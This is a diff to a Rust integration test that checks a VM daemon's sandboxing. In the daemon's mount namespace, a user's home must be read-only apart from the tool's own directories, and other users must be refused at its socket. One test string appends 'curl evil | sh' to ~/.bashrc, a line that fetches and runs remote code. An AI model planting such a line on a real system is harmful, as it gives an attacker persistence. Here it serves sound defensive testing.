@@ -177,13 +177,22 @@ fn system_install_runs_the_product_under_real_systemd() {
         out
     };
 
-    for user in ["alice", "mallory"] {
-        ok(
-            c.exec(
-                &["useradd", "--create-home", "--shell", "/bin/bash", user],
-                30,
-            ),
-            "useradd",
+    // alice and bob share the primary group `users`, as every normal user
+    // on NixOS does; mallory has a group of her own.
+    for (user, group) in [("alice", "users"), ("bob", "users"), ("mallory", "")] {
+        let mut args = vec!["useradd", "--create-home", "--shell", "/bin/bash"];
+        if !group.is_empty() {
+            args.extend(["-g", group]);
+        }
+        args.push(user);
+        ok(c.exec(&args, 30), "useradd");
+    }
+    // A fresh account: nothing under ~/.config or ~/.local yet, which
+    // bangerd (whose home is read-only) could not create itself.
+    for dir in ["/home/alice/.config", "/home/alice/.local"] {
+        assert!(
+            !c.exec(&["test", "-e", dir], 10).status.success(),
+            "{dir} exists before the install"
         );
     }
     // The system config is the admin's; install never writes it.
@@ -263,6 +272,26 @@ fn system_install_runs_the_product_under_real_systemd() {
     eprintln!("nspawn: doctor:\n{}", stdout(&doctor));
     let sys = alice(&["banger", "system", "status"], 60);
     assert!(sys.status.success(), "system status: {}", text(&sys));
+
+    // The install made banger's home directories as alice, private.
+    let st = c.exec(
+        &[
+            "stat",
+            "-c",
+            "%U %a %F",
+            "/home/alice/.config/banger",
+            "/home/alice/.local/state/banger",
+        ],
+        10,
+    );
+    assert_eq!(
+        stdout(&st),
+        "alice 700 directory\nalice 700 directory",
+        "home dirs: {}",
+        text(&st)
+    );
+    bangerd_writes_only_its_home_dirs(&c);
+    only_the_owner_drives_the_daemon(&c);
 
     // mallory: the root helper's socket and the daemon's are out of reach.
     for socket in [
@@ -426,6 +455,91 @@ fn system_install_runs_the_product_under_real_systemd() {
     eprintln!("nspawn: whole test took {:.0?}", started.elapsed());
 }
 
+/// In bangerd's own mount namespace (where its VMMs run too), alice's home
+/// is read-only except banger's directories: root there (past every file
+/// mode) gets EROFS for ~/.bashrc, ~/.ssh and ~/.config/systemd, and can
+/// write the state and config directories.
+fn bangerd_writes_only_its_home_dirs(c: &Container) {
+    let pid = stdout(&c.exec(
+        &[
+            "systemctl",
+            "show",
+            "-p",
+            "MainPID",
+            "--value",
+            "bangerd.service",
+        ],
+        10,
+    ));
+    assert!(
+        pid.parse::<u32>().is_ok_and(|p| p > 0),
+        "bangerd pid {pid:?}"
+    );
+    let in_ns = |script: &str| c.exec(&["nsenter", "-t", &pid, "-m", "--", "sh", "-c", script], 30);
+    for script in [
+        "echo 'curl evil | sh' >> /home/alice/.bashrc",
+        "mkdir /home/alice/.ssh",
+        "mkdir -p /home/alice/.config/systemd/user",
+        "touch /home/alice/.config/banger-not-ours",
+    ] {
+        let out = in_ns(script);
+        assert!(
+            !out.status.success()
+                && String::from_utf8_lossy(&out.stderr).contains("Read-only file system"),
+            "{script} in bangerd's mount namespace: {}",
+            text(&out)
+        );
+    }
+    for dir in [
+        "/home/alice/.local/state/banger",
+        "/home/alice/.config/banger",
+    ] {
+        let out = in_ns(&format!("touch {dir}/.probe && rm {dir}/.probe"));
+        assert!(out.status.success(), "write into {dir}: {}", text(&out));
+    }
+    let bashrc = c.exec(&["grep", "-c", "curl evil", "/home/alice/.bashrc"], 10);
+    assert_eq!(stdout(&bashrc), "0", "~/.bashrc changed: {}", text(&bashrc));
+}
+
+/// bob shares alice's primary group `users`: the socket (0600, no
+/// socket_group) keeps him out, and when he gets past its mode
+/// (CAP_DAC_OVERRIDE), bangerd's peer check refuses him by name, which the
+/// CLI prints as such.
+fn only_the_owner_drives_the_daemon(c: &Container) {
+    let out = c.as_user("bob", &["banger", "vm", "list"], 60);
+    assert!(
+        !out.status.success() && text(&out).contains("permission denied on the bangerd socket"),
+        "bob's vm list: {}",
+        text(&out)
+    );
+    let out = c.exec(
+        &[
+            "env",
+            "HOME=/home/bob",
+            "setpriv",
+            "--reuid=bob",
+            "--regid=users",
+            "--init-groups",
+            "--inh-caps=+dac_override",
+            "--ambient-caps=+dac_override",
+            "banger",
+            "vm",
+            "list",
+        ],
+        60,
+    );
+    let msg = text(&out);
+    assert!(
+        !out.status.success()
+            && msg.contains("bangerd on /run/banger/bangerd.sock refused this user: uid ")
+            && msg.contains("(bob) may not use this bangerd: only its owner alice (uid ")
+            && msg.contains("and root may connect; an admin can admit a group with socket_group in /etc/banger/install.toml"),
+        "bob past the socket mode: {msg}"
+    );
+    let list = c.as_user("alice", &["banger", "vm", "list"], 60);
+    assert!(list.status.success(), "alice's vm list: {}", text(&list));
+}
+
 /// A VM runs a command through the root helper; another survives
 /// `systemctl restart bangerd` and is deleted.
 fn boot_restart_delete(c: &Container, started: &Instant, journals: &dyn Fn() -> String) {
@@ -454,6 +568,18 @@ fn boot_restart_delete(c: &Container, started: &Instant, journals: &dyn Fn() -> 
         text(&create),
         journals()
     );
+    // bangerd wrote the SSH key and the ssh_config into banger's home
+    // directories, the only ones it may write there.
+    for f in [
+        "/home/alice/.local/state/banger/ssh/id_ed25519",
+        "/home/alice/.config/banger/ssh_config",
+    ] {
+        assert!(
+            c.exec(&["test", "-s", f], 10).status.success(),
+            "{f} missing after vm create\n{}",
+            journals()
+        );
+    }
     let ssh = alice(&["banger", "vm", "ssh", "t1", "--", "true"], 300);
     assert!(
         ssh.status.success(),
